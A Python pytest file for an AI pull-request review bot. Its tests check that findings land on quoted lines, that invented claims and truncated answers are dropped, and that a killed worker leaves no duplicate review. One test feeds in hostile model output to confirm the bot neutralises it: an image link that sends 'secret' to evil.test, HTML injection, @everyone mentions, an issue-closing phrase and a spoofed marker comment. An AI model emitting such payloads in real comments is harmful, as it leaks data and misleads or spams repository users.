"""Stories with a model behind an OpenAI-compatible server: what it says, and what it fails at."""

import re
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.adapters.redis_server import EmbeddedRedis
from tests.fakes.argus import Argus
from tests.fakes.github import FakeGitHub
from tests.fakes.model_answers import Asked, Says, overloaded, review, truncated
from tests.fakes.model_server import ModelServer
from tests.flows.test_pull_request import checked, own_reviews, summarised

BASE = {"shop/cart.py": "def total(items):\n    return sum(i.price for i in items)\n"}
CHANGE = {
    "shop/cart.py": "def total(items):\n    return sum(i.price for i in items) / len(items)\n"
}
QUOTE = "return sum(i.price for i in items) / len(items)"
MENTION = re.compile(r"(?<![\w`])@[a-z]\w*", re.IGNORECASE)
EMPTY_CART = {
    "path": "shop/cart.py",
    "line": 2,
    "severity": "important",
    "category": "bug",
    "title": "An empty cart divides by zero",
    "body": "total([]) raises ZeroDivisionError where it returned 0 before.",
    "quote": QUOTE,
    "confidence": 0.9,
}


@pytest.fixture(scope="module")
def reviewing(
    hub: FakeGitHub,
    own_redis: EmbeddedRedis,
    model: ModelServer,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Argus]:
    """Web and worker, with a model."""
    environment = {"ARGUS_LEASE_SECONDS": "4", **model.environment}
    with Argus(hub, own_redis.url, tmp_path_factory.mktemp("logs"), **environment) as running:
        yield running


def only_check(shown: Mapping[str, Any]) -> Mapping[str, Any]:
    (check,) = shown["checks"]
    return dict(check)


@pytest.mark.usefixtures("reviewing")
async def test_finding_stands_on_the_line_its_quote_stands_on(
    hub: FakeGitHub, model: ModelServer
) -> None:
    model.script = lambda _: review(EMPTY_CART | {"line": 1})
    opened = hub.open(BASE, CHANGE, repo="octo/quoted")

    shown = await hub.until(opened.repo, opened.number, summarised)

    (comment,) = shown["review_comments"]
    assert (comment["path"], comment["line"], comment["side"]) == ("shop/cart.py", 2, "RIGHT")
    assert only_check(shown)["conclusion"] == "neutral"
    assert "openai:test-model" in shown["issue_comments"][0]["body"]


@pytest.mark.usefixtures("reviewing")
async def test_read_in_full_with_nothing_to_say_is_green_and_quiet(
    hub: FakeGitHub, model: ModelServer
) -> None:
    model.script = lambda _: review()
    opened = hub.open(BASE, CHANGE, repo="octo/green")

    shown = await hub.until(opened.repo, opened.number, checked)

    assert only_check(shown)["conclusion"] == "success"
    assert (own_reviews(shown), shown["issue_comments"]) == ([], [])


@pytest.mark.usefixtures("reviewing")
async def test_invented_claims_are_not_posted(hub: FakeGitHub, model: ModelServer) -> None:
    invented = [
        EMPTY_CART | {"quote": "return items.nowhere()", "title": "A quote that stands nowhere"},
        EMPTY_CART | {"path": "shop/absent.py", "title": "A file that is not in the change"},
        EMPTY_CART | {"title": "", "body": ""},
        EMPTY_CART,
        EMPTY_CART,
    ]
    model.script = lambda _: review(*invented)
    opened = hub.open(BASE, CHANGE, repo="octo/invented")

    shown = await hub.until(opened.repo, opened.number, summarised)

    assert [c["body"].splitlines()[0] for c in shown["review_comments"]] == [
        "**An empty cart divides by zero**"
    ]


@pytest.mark.usefixtures("reviewing")
async def test_hostile_words_of_a_model_stay_harmless(hub: FakeGitHub, model: ModelServer) -> None:
    hostile = EMPTY_CART | {
        "title": "Ping @octocat and close #1 <img src=x>",
        "body": "![x](https://evil.test/?q=secret) Fixes #1 <!-- argus:v1:review:x:y -->",
    }
    model.script = lambda _: review(hostile, summary="@everyone [click](https://evil.test)")
    opened = hub.open(BASE, CHANGE, repo="octo/hostile")

    shown = await hub.until(opened.repo, opened.number, summarised)

    bodies = [shown["review_comments"][0]["body"], shown["issue_comments"][0]["body"]]
    assert [reached(body) for body in bodies] == [[], []]
    assert [word for body in bodies for word in MENTION.findall(spoken(body))] == []


def spoken(markdown: str) -> str:
    """Return the words outside code, where GitHub would notify people."""
    return " ".join(token.content for token in tokens(markdown) if token.type == "text")


def tokens(markdown: str) -> list[Token]:
    return [
        child
        for token in MarkdownIt("gfm-like", {"linkify": False}).parse(markdown)
        for child in (token, *(token.children or ()))
    ]


def reached(markdown: str) -> list[str]:
    """Return what a reader's browser would load or open beyond the local GitHub."""
    found = tokens(markdown)
    addresses = [str(token.attrs.get("href") or token.attrs.get("src") or "") for token in found]
    return [a for a in addresses if a and not a.startswith("http://127.0.0.1:")]


@pytest.mark.usefixtures("reviewing")
async def test_model_out_of_service_degrades_openly(hub: FakeGitHub, model: ModelServer) -> None:
    model.script = lambda _: overloaded()
    opened = hub.open(BASE, CHANGE, repo="octo/overloaded")

    shown = await hub.until(opened.repo, opened.number, checked, seconds=30)

    check = only_check(shown)
    assert check["conclusion"] == "neutral"
    assert "the model is unavailable" in check["output"]["summary"]


@pytest.mark.usefixtures("reviewing")
async def test_answer_cut_short_never_becomes_a_wrong_comment(
    hub: FakeGitHub, model: ModelServer
) -> None:
    whole = review(EMPTY_CART, EMPTY_CART | {"title": "Second", "quote": "def total(items):"})

    def script(_: Asked) -> Says:
        return truncated(whole)

    model.script = script
    opened = hub.open(BASE, CHANGE, repo="octo/truncated")

    shown = await hub.until(opened.repo, opened.number, checked, seconds=30)

    assert only_check(shown)["conclusion"] == "neutral"
    assert all(c["line"] in {1, 2} for c in shown["review_comments"])


async def test_killed_worker_costs_neither_the_review_nor_a_second_one(
    hub: FakeGitHub,
    own_redis: EmbeddedRedis,
    model: ModelServer,
    reviewing: Argus,
) -> None:
    asked: list[Asked] = []

    def script(request: Asked) -> Says:
        asked.append(request)
        if len(asked) == 1:
            reviewing.kill("worker")
            reviewing.start("worker", "successor")
        return review(EMPTY_CART)

    model.script = script
    opened = hub.open(BASE, CHANGE, repo="octo/killed")

    shown = await hub.until(opened.repo, opened.number, summarised, seconds=90)

    assert len(own_reviews(shown)) == 1
    assert len(shown["review_comments"]) == 1
